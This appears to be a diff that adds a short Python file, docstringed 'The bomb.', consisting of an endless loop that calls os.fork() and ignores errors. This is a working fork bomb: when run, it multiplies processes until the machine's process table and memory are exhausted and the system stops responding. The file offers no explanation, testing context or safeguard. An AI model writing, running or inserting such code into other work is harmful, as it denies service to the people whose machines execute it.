@@ -1,0 +1,9 @@
+"""The bomb."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
